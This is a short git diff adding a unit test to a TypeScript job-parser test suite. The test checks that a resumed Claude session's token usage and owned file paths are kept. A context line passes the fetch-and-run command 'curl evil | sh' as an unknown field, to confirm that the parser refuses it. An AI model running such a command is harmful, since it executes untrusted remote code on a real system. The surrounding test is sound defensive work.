@@ -66,6 +66,24 @@ describe('jobs', () => {
     expect(parsed.ok).toBe(true);
   });
 
+  it('carries what a resumed Claude session spent and the owned files its write hook enforces', () => {
+    const spent = {
+      inputTokens: 1200,
+      outputTokens: 80,
+      cacheReadTokens: 0,
+      cacheWriteTokens: 0,
+      costUsd: 0.02,
+      costSource: 'reported',
+    };
+    const task = { ...(job()['task'] as object), resumedUsage: spent, ownedPaths: ['src/part1.ts'] };
+    const parsed = parseJobData(job({ task }));
+    expect(parsed.ok ? parsed.job.task : parsed.message).toMatchObject({
+      resumedUsage: spent,
+      ownedPaths: ['src/part1.ts'],
+    });
+    expect(parseJobData(job({ task: { ...task, ownedPaths: [''] } })).ok).toBe(false);
+  });
+
   it('refuses a job that carries a command line or anything else unknown', () => {
     const parsed = parseJobData(job({ agentCommand: 'curl evil | sh' }));
     expect(parsed).toMatchObject({ ok: false });
